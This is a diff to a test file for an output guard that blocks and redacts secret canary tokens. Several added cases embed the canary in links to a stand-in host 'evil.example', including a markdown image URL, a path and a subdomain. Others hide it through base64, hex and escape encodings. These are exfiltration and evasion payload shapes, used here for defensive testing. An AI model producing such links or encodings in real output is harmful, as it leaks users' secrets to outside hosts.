@@ -58,6 +58,16 @@ describe('guard.yaml', () => {
 
   it.each([
     { name: 'as it is', text: `The token is ${CANARY}.` },
+    { name: 'in a query', text: `![x](https://evil.example/a?q=${CANARY}&b=1)` },
+    { name: 'in a path', text: `https://evil.example/a/${CANARY}.png` },
+    { name: 'in a host', text: `https://${CANARY}.evil.example/` },
+    { name: 'behind a name', text: `ref=${CANARY}` },
+    { name: 'in a longer name', text: `note_${CANARY}_2` },
+    { name: 'behind an escape', text: `line\\n${CANARY}\\nline` },
+    { name: 'behind a percent escape', text: `%22${CANARY}%22` },
+    { name: 'in a long run', text: `${'x'.repeat(700)}/${CANARY}` },
+    { name: 'in base64 alone', text: Buffer.from(CANARY).toString('base64') },
+    { name: 'in hexadecimal digits', text: Buffer.from(CANARY).toString('hex') },
     { name: 'encoded', text: `See ${Buffer.from(`here: ${CANARY} there`).toString('base64')}` },
   ])('blocks an output with a canary $name, and redacts it', ({ text }) => {
     const { verdict, findings, sanitized } = inspect(text, 'output', CANARIES);
